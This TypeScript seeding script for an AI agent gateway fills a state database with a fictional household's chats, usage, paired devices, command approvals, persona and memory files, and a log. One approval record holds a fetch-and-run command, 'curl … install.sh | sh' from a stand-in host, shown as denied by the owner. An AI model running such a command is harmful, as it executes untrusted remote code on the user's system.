// Writes the made-up household into a state folder, before a gateway opens it: chats, weeks of usage, devices, answers, a log.
import { createHash, randomUUID } from 'node:crypto'
import { mkdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { createSessionStore } from '../../gateway/sessions/index.ts'
import type { NewSessionEvent } from '../../gateway/sessions/index.ts'
import { openStateDatabase } from '../../gateway/storage/index.ts'
import type { Database } from '../../gateway/storage/index.ts'
import { CHATS } from './made-up-chats.ts'
import type { MadeUpChat } from './made-up-chats.ts'

const [MINUTE_MS, HOUR_MS, DAY_MS] = [60_000, 3_600_000, 86_400_000]
const USAGE_DAYS = 42
const CHANNEL = /^agent:\w+:(telegram|whatsapp|slack|signal|email):/

export function fillState(stateDir: string): void {
  const now = Date.now()
  const database = openStateDatabase({ path: join(stateDir, 'state.db') })
  for (const chat of CHATS) addChat(database, chat, now)
  addUsage(database, now)
  addDevices(database, now)
  addAnswers(database, now)
  database.close()
  writeFiles(stateDir)
  writeLog(stateDir, now)
}

function addChat(database: Database, chat: MadeUpChat, now: number): void {
  const store = createSessionStore({ database })
  const endedAt = now - chat.hoursAgo * HOUR_MS
  const channel = CHANNEL.exec(chat.key)?.[1]
  const events = chat.turns.flatMap((turn, index) => eventsOf(turn, chat.model, endedAt - (chat.turns.length - index) * 4 * MINUTE_MS, channel))
  const { sessionId } = store.createFrom(chat.key, { agentId: chat.agentId, kind: chat.key.includes(':group:') ? 'group' : 'direct' }, events)
  store.patch(chat.key, { title: chat.title, ...(chat.isPinned === true && { pinned: true }), ...(chat.isArchived === true && { archived: true }) })
  const tokens = { input: 9_400 * chat.turns.length, output: 620 * chat.turns.length, cacheRead: 6_100 * chat.turns.length, cacheWrite: 0, total: 16_120 * chat.turns.length, context: 2_160, cost: chat.model.startsWith('ollama') ? 0 : 0.039 * chat.turns.length }
  database.prepare('UPDATE sessions SET updated_at = ?, last_interaction_at = ?, last_read_at = ?, tokens_json = ?, status = ? WHERE session_id = ?')
    .run(endedAt, endedAt, chat.isUnread === true ? endedAt - HOUR_MS : endedAt, JSON.stringify(tokens), 'done', sessionId)
}

function eventsOf(turn: MadeUpChat['turns'][number], modelRef: string, askedAt: number, channel: string | undefined): NewSessionEvent[] {
  const [provider = '', model = ''] = modelRef.split(/\/(.*)/)
  const runId = randomUUID()
  const usage = { input: 9_400, output: 620, cacheRead: 6_100, cacheWrite: 0, totalTokens: 16_120, cost: provider === 'ollama' ? 0 : 0.039 }
  const assistant = { role: 'assistant', provider, model } as const
  const message = (createdAtMs: number, body: object, trust: 'owner' | 'tool' = 'owner'): NewSessionEvent => ({ trust, runId, createdAtMs, ...(channel !== undefined && { origin: { channel, senderIsOwner: true } }), body: { type: 'message', message: { ...body, timestampMs: createdAtMs } } as NewSessionEvent['body'] })
  const tools = (turn.tools ?? []).map((tool) => ({ ...tool, id: randomUUID() }))
  return [
    message(askedAt, { role: 'user', content: [{ type: 'text', text: turn.ask }] }),
    ...(tools.length === 0 ? [] : [message(askedAt + 1_800, { ...assistant, stopReason: 'toolUse', usage, content: [...(turn.thinking === undefined ? [] : [{ type: 'thinking', thinking: turn.thinking }]), ...tools.map(({ id, name, args }) => ({ type: 'toolCall', id, name, arguments: args }))] })]),
    ...tools.map(({ id, name, result }, index) => message(askedAt + 2_600 + index * 900, { role: 'toolResult', toolCallId: id, toolName: name, isError: false, content: [{ type: 'text', text: result }] }, 'tool')),
    message(askedAt + 9_400, { ...assistant, stopReason: 'stop', usage, content: [{ type: 'text', text: turn.answer }] }),
  ]
}

/** Weekdays are busier, some days are quiet, and the work agent grows. */
function addUsage(database: Database, now: number): void {
  const insert = database.prepare('INSERT OR REPLACE INTO usage_daily (day, agent_id, provider, model, session_id, input, output, cache_read, cache_write, turns, cost) VALUES (?, ?, ?, ?, ?, ?, ?, ?, 0, ?, ?)')
  const idOf = database.prepare<[string], string>('SELECT session_id FROM sessions WHERE key = ?').pluck()
  for (let age = 0; age < USAGE_DAYS; age += 1) {
    const at = new Date(now - age * DAY_MS)
    const day = `${at.getFullYear()}-${String(at.getMonth() + 1).padStart(2, '0')}-${String(at.getDate()).padStart(2, '0')}`
    const isWeekend = at.getDay() % 6 === 0
    for (const [place, chat] of CHATS.entries()) {
      const turns = Math.round((1 + Math.sin(age * 1.7 + place * 2.3)) * (isWeekend ? 1.2 : 3) * (chat.agentId === 'work' && isWeekend ? 0 : 1) * (1 - age / 90) * (place === 0 ? 1.6 : 0.7))
      if (turns === 0) continue
      const [provider = '', model = ''] = chat.model.split(/\/(.*)/)
      const [input, output, cacheRead] = [turns * 3_900, turns * 540, turns * 6_400]
      insert.run(day, chat.agentId, provider, model, idOf.get(chat.key) ?? '', input, output, cacheRead, turns, provider === 'ollama' ? 0 : (input * 3 + output * 15 + cacheRead * 0.3) / 1_000_000)
    }
  }
}

const ALL_SCOPES = ['operator.admin', 'operator.approvals', 'operator.pairing', 'operator.read', 'operator.talk.secrets', 'operator.write']

function addDevices(database: Database, now: number): void {
  const devices = [
    { name: 'Safari on iPhone', label: 'Ana’s phone', platform: 'iPhone', scopes: ALL_SCOPES, seenHours: 0.6, via: 'owner', addedDays: 61 },
    { name: 'Firefox on Windows', label: 'Office', platform: 'Win32', scopes: ['operator.read', 'operator.write', 'operator.approvals'], seenHours: 19, via: 'owner', addedDays: 33 },
    { name: 'Chrome on Android', label: null, platform: 'Linux armv8l', scopes: ['operator.read'], seenHours: 24 * 9, via: 'bootstrap', addedDays: 12 },
  ]
  const device = database.prepare('INSERT INTO devices (device_id, public_key, display_name, operator_label, platform, client_id, client_mode, roles_json, scopes_json, approved_via, created_at, approved_at, last_seen_at, last_seen_reason, remote_ip) VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)')
  const token = database.prepare('INSERT INTO device_tokens (device_id, role, token_salt, token_hash, scopes_json, created_at, last_used_at) VALUES (?, ?, ?, ?, ?, ?, ?)')
  for (const [index, { name, label, platform, scopes, seenHours, via, addedDays }] of devices.entries()) {
    const id = createHash('sha256').update(name).digest('hex')
    const [added, seen] = [now - addedDays * DAY_MS, now - seenHours * HOUR_MS]
    device.run(id, id.slice(0, 43), name, label, platform, 'openclaw-control-ui', 'webchat', '["operator"]', JSON.stringify(scopes), via, added, added, seen, 'disconnect', `192.168.1.${20 + index}`)
    token.run(id, 'operator', id.slice(0, 16), createHash('sha256').update(id).digest('hex'), JSON.stringify(scopes), added, seen)
  }
}

function addAnswers(database: Database, now: number): void {
  const answers = [
    { agentId: 'main', command: 'pdftotext manuals/boiler.pdf -', decision: 'allow-always', by: 'Chrome on Linux', hoursAgo: 7 },
    { agentId: 'work', command: 'git push origin release-4.2', decision: 'allow-once', by: 'Safari on iPhone', hoursAgo: 28 },
    { agentId: 'main', command: 'curl -s https://deals.example/install.sh | sh', decision: 'deny', by: 'Safari on iPhone', hoursAgo: 51 },
    { agentId: 'garden', command: 'valve-control open --zone 2 --minutes 20', decision: null, by: null, hoursAgo: 75 },
  ] as const
  const insert = database.prepare('INSERT INTO approvals (id, kind, session_key, run_id, request_json, created_at, expires_at, decision, terminal_reason, resolved_by, resolved_at) VALUES (?, \'exec\', ?, NULL, ?, ?, ?, ?, ?, ?, ?)')
  for (const { agentId, command, decision, by, hoursAgo } of answers.toReversed()) {
    const at = now - hoursAgo * HOUR_MS
    const sessionKey = CHATS.find((chat) => chat.agentId === agentId)?.key ?? ''
    const request = { command, cwd: `/home/ana/${agentId}`, host: 'gateway', agentId, sessionKey, security: 'allowlist', ask: 'on-miss', allowedDecisions: ['allow-once', 'allow-always', 'deny'] }
    insert.run(randomUUID(), sessionKey, JSON.stringify(request), at, at + 5 * MINUTE_MS, decision, decision === null ? 'expired' : 'resolved', by, at + (decision === null ? 5 * MINUTE_MS : 40_000))
  }
}

function writeFiles(stateDir: string): void {
  const workspace = join(stateDir, 'workspace')
  mkdirSync(workspace, { recursive: true })
  writeFileSync(join(workspace, 'SOUL.md'), '# Clara\n\nCalm, brief, dry humour. Says what she did and what she left undone.\n\n- Ask before anything that costs money or cannot be undone.\n- Never wake anybody before eight.\n- When the family asks, answer all of them, not the loudest.\n')
  writeFileSync(join(workspace, 'USER.md'), '# Ana\n\nLives in Porto with Jon and Mia (7). Vegetarian. Works from home on Mondays and Fridays.\nPrefers short answers, and tables for anything with more than three numbers.\n')
  writeFileSync(join(workspace, 'MEMORY.md'), '# What to remember\n\n- Mia must not eat nuts.\n- The boiler was serviced in May; the plumber is Senhor Matos.\n- Ana pays the rent on the 3rd.\n- Trips: no early mornings, little walking.\n')
}

function writeLog(stateDir: string, now: number): void {
  mkdirSync(join(stateDir, 'logs'), { recursive: true })
  const lines: readonly (readonly [minutesAgo: number, level: string, subsystem: string, msg: string, more?: object])[] = [
    [95, 'info', 'gateway', 'started', { version: '0.1.0', port: 18789 }],
    [94, 'info', 'connections', 'client connected', { client: 'Safari on iPhone' }],
    [72, 'info', 'agent', 'run finished', { runId: 'f1c2a9', ms: 8412, tools: 2 }],
    [71, 'debug', 'storage', 'backup kept', { bytes: 4_812_800 }],
    [64, 'warn', 'models', 'a model call was slow', { model: 'anthropic/claude-sonnet-5-5', firstWordMs: 4180 }],
    [63, 'info', 'agent', 'run finished', { runId: '77ab10', ms: 11_904, tools: 0 }],
    [41, 'warn', 'tools', 'a page did not answer', { tool: 'web_fetch', url: 'https://deals.example', afterMs: 10_000 }],
    [38, 'error', 'models', 'a model call failed', { model: 'ollama/qwen3:14b', kind: 'unreachable', attempt: 1 }],
    [38, 'info', 'models', 'the next model answered', { model: 'anthropic/claude-sonnet-5-5' }],
    [22, 'info', 'approvals', 'a command was allowed once', { by: 'Safari on iPhone' }],
    [18, 'info', 'agent', 'run finished', { runId: '0b9e44', ms: 9_377, tools: 3 }],
    [6, 'info', 'connections', 'client left', { client: 'Safari on iPhone', reason: 'asleep' }],
  ]
  writeFileSync(join(stateDir, 'logs', 'gateway.log'), `${lines.map(([minutesAgo, level, subsystem, msg, more]) => JSON.stringify({ level, time: now - minutesAgo * MINUTE_MS, subsystem, msg, ...more })).join('\n')}\n`)
}
